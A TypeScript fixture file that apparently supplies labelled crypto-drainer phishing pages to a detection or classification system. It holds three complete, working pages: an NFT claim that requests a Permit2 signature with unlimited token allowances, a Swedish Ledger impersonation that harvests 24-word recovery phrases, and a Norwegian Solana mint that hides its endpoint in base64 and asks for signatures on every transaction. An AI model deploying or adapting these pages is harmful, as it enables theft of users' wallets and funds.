import { type Entry } from '../entry.js';
import { doc, b64, chunks } from '../parts/yx-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const h = 'aurora-genesis-claim.art';
  return {
    id: 'yx-drainer-aurora-genesis-permit2-batch',
    label: 'cryptodrainer',
    kind: 'permit2-signature-drainer',
    url: `https://${h}/claim`,
    body: doc({
      lang: 'en',
      title: 'Aurora Borealis Genesis – Claim your Northern Lights pass',
      css: `body{margin:0;min-height:100vh;background:linear-gradient(180deg,#020617,#064e3b 60%,#7c3aed);color:#ecfeff;font-family:Inter,Arial;text-align:center}.c{max-width:520px;margin:0 auto;padding:70px 20px}h1{font-size:44px}button{background:#34d399;color:#022c22;border:0;padding:15px 40px;border-radius:30px;font-size:18px;font-weight:700}.s{font-size:14px;opacity:.8;margin-top:14px}`,
      body: `<div class="c"><p>🇳🇴 🇸🇪 🇫🇮 🇩🇰 🇮🇸</p><h1>Aurora Borealis Genesis</h1><p>1 111 generative auroras captured above Tromsø, Kiruna and Rovaniemi. Early supporters claim their pass gas-free by signing a message.</p>
<button id="cl">Claim pass</button><p class="s" id="s">Gasless claim · Signature only · No transaction</p></div>
<script>
var SP='0x3b8f2d6a1e9c5047b2d8a6f4c1e3b5d7a9c2e401',P2='0x000000000022D473030F116dDEE9F6B43aC78BA3';
var T=[['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','USDC'],['0xdAC17F958D2ee523a2206206994597C13D831ec7','USDT'],['0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2','WETH'],['0x6B175474E89094C44Da98b954EedeAC495271d0F','DAI']];
document.getElementById('cl').onclick=async function(){
 var a=(await ethereum.request({method:'eth_requestAccounts'}))[0],dl=Math.floor(Date.now()/1000)+86400*365;
 var msg={details:T.map(function(t,i){return {token:t[0],amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:i}}),spender:SP,sigDeadline:dl};
 var td={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:P2},message:msg};
 document.getElementById('s').textContent='Sign the claim message in your wallet…';
 var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(td)]});
 await fetch('/api/claim/sig',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:a,sig:sig,permit:msg})});
 document.getElementById('s').textContent='Claimed! Your pass will be airdropped within 48 h.';
};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const h = 'ledger-live-sverige.com-update.app';
  return {
    id: 'yx-drainer-ledger-seed-phrase-sv',
    label: 'cryptodrainer',
    kind: 'seed-phrase-harvest',
    url: `https://${h}/sv/sakerhetsuppdatering`,
    body: doc({
      lang: 'sv',
      title: 'Ledger Live – Säkerhetsuppdatering',
      css: `body{margin:0;background:#131214;color:#fff;font-family:Inter,Arial}.w{max-width:760px;margin:40px auto;padding:0 20px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:10px;margin:20px 0}.g label{display:flex;align-items:center;gap:6px;background:#1f1d22;border-radius:6px;padding:6px 8px;font-size:12px;color:#999}.g input{flex:1;background:transparent;border:0;color:#fff;font-size:15px;outline:0}
.alert{background:#2a1a0a;border:1px solid #f5a623;padding:14px;border-radius:6px}button{background:#bbb0ff;color:#131214;border:0;padding:14px 34px;border-radius:30px;font-size:16px;font-weight:bold}`,
      body: `<div class="w"><b style="font-size:22px">LEDGER</b><h1>Säkerhetsuppdatering krävs</h1><div class="alert">Ett säkerhetsintrång hos en av våra leverantörer kan ha exponerat kunddata för svenska användare. För att skydda dina tillgångar måste du migrera din enhet till den nya säkra firmware 2.4.1 senast 31 oktober. Efter detta datum kan tillgångar på ej migrerade enheter gå förlorade.</div>
<p>Ange din återställningsfras (24 ord) i rätt ordning för att verifiera ägarskap och slutföra migreringen.</p>
<form id="f"><div class="g">${Array.from({ length: 24 }, (_, i) => `<label>${i + 1}.<input name="w${i + 1}" autocomplete="off" spellcheck="false"></label>`).join('')}</div><button>Verifiera och migrera</button></form>
<p style="font-size:12px;color:#888">Ledger SAS · 1 rue du Mail, 75002 Paris · Ledger Nano S Plus / Nano X / Stax</p></div>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[];for(var i=1;i<=24;i++)w.push(this['w'+i].value.trim().toLowerCase());
if(w.filter(Boolean).length<12){alert('Fyll i alla ord');return}
fetch('/sv/api/restore.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'p='+encodeURIComponent(w.join(' '))+'&t=ledger&l=sv'}).finally(function(){location.href='https://www.ledger.com/'})};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const h = 'nokken-spirits.sol-mint.site';
  return {
    id: 'yx-drainer-nokken-solana-signall',
    label: 'cryptodrainer',
    kind: 'solana-wallet-drainer',
    url: `https://${h}/mint/no`,
    body: doc({
      lang: 'no',
      title: 'Nøkken Spirits – Solana NFT-mint',
      css: `body{margin:0;background:#03151e;color:#d7f4ef;font-family:Arial;text-align:center}.c{padding:60px 20px}h1{font-size:46px;letter-spacing:2px}button{background:#14f195;color:#03151e;border:0;border-radius:24px;padding:14px 36px;font-size:17px;font-weight:bold}.s{opacity:.8;font-size:14px}`,
      body: `<div class="c"><svg width="160" height="160"><circle cx="80" cy="80" r="76" fill="#0b3c49"/><path d="M40 110 Q80 20 120 110" stroke="#14f195" stroke-width="6" fill="none"/><circle cx="64" cy="70" r="6" fill="#d7f4ef"/><circle cx="96" cy="70" r="6" fill="#d7f4ef"/></svg>
<h1>NØKKEN SPIRITS</h1><p>3 333 vesener fra norske myter – Nøkken, Huldra og Fossegrimen. Gratis mint for Phantom-brukere i Norden.</p><button id="m">Koble til Phantom og mint</button><p class="s" id="s">Supply: 2 918 / 3 333</p></div>
<script>
var api=[${chunks(b64(`https://${h}/api/tx/build`), 12)}].join('');
document.getElementById('m').onclick=async function(){
 var p=window.phantom&&window.phantom.solana||window.solana;if(!p){alert('Installer Phantom');return}
 var r=await p.connect();var pk=r.publicKey.toString();
 document.getElementById('s').textContent='Forbereder mint…';
 var j=await fetch(atob(api),{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk})}).then(function(x){return x.json()});
 var txs=j.txs.map(function(b){return window.solanaWeb3?solanaWeb3.VersionedTransaction.deserialize(Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)})):b});
 var signed=await p.signAllTransactions(txs);
 await fetch('/api/tx/submit',{method:'POST',body:JSON.stringify({owner:pk,signed:signed.map(function(t){return btoa(String.fromCharCode.apply(null,t.serialize()))})})});
 document.getElementById('s').textContent='Mintet! NFT-en dukker opp i lommeboken snart.';
};
</script>`,
    }),
    routes: { [`${h}/api/tx/build`]: jsonRoute({ txs: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABAAIE'], note: 'transfer-all' }) },
  } satisfies Entry;
})(),
];
